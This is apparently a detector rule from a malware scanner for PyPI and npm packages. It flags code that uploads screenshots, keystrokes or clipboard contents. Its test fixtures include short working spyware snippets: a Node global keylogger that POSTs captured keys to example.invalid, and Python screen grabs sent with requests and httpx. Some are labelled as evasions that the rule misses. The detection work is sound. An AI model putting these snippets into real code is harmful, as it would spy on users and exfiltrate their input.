import { isJavascript } from "../behaviour/bundles.ts";
import { marks } from "../behaviour/marks.ts";
import { deedsOf, flowsBetween } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { codeWith, isLate, sight } from "./_sight.ts";

export const recordsInput: Detector = {
  id: "records-input",
  title: "Sends screenshots, key strokes or the clipboard to a server",
  severity: "critical",
  ecosystems: ["pypi", "npm"],
  points: 5.5,
  class: "threat",
  group: "exfiltration",
  why: `Pictures of the screen or camera, key strokes, sound or the clipboard reach a request, a mail or a socket: the code spies on
whoever runs it.

Remote-control and testing tools do so openly, on request, and as their stated purpose.`,
  literals: marks("screen", "keys", "clipboard"),
  *detect(tree) {
    for (const file of codeWith(tree, marks("screen", "keys", "clipboard"))) {
      for (const { source, sink } of flowsBetween(file, ["screen", "keys", "clipboard"], ["upload", "http", "send"])) {
        const late = isLate(sink);
        yield sight(file, sink.offset, `what ${source.what} records is sent by ${sink.what}`, {
          phase: sink.phase,
          share: late ? 0.8 : 1,
        });
      }
      const keys = deedsOf(file, "keys")[0];
      const sends = deedsOf(file, "upload", "mail", "socket")[0];
      if (keys !== undefined && sends !== undefined) {
        yield sight(file, keys.offset, `${keys.what} records key strokes in a file that also sends (${sends.what})`, {
          phase: keys.phase,
          share: sends.act === "mail" ? 1 : isJavascript(file) ? 0.8 : 0.7,
        });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import pyautogui, requests\ns = pyautogui.screenshot()\ns.save('a.png')\nrequests.post('http://example.invalid', files={'f': s})\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import pyautogui, requests\ns = pyautogui.screenshot()\nrequests.get('http://example.invalid')\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { GlobalKeyboardListener } = require('node-global-key-listener');\nconst k = new GlobalKeyboardListener();\nlet b = '';\nk.addListener((e) => { b += e.name; });\nsetInterval(() => fetch('https://example.invalid', { method: 'POST', body: b }), 10000);\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "from PIL import ImageGrab as g\nimport httpx\nx = g.grab()\nhttpx.post('http://example.invalid', data=x.tobytes())\n",
        },
      },
    ],
  },
};
